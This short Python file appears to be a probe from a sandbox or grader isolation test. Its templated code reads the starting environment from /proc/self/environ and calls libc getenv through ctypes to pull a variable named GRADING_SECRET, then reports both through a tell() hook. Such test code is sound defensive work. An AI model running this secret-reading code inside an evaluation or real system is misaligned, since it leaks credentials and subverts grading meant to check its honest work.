"""Read the environment as it was at the start of the process, from /proc and from its memory."""

LINUX = True
FIRST = """{{TELL}}
import ctypes

try:
    with open("/proc/self/environ", "rb") as _file:
        tell(_file.read())
except OSError:
    pass
ctypes.CDLL(None).getenv.restype = ctypes.c_char_p
tell(ctypes.CDLL(None).getenv(b"GRADING_SECRET") or b"")
"""
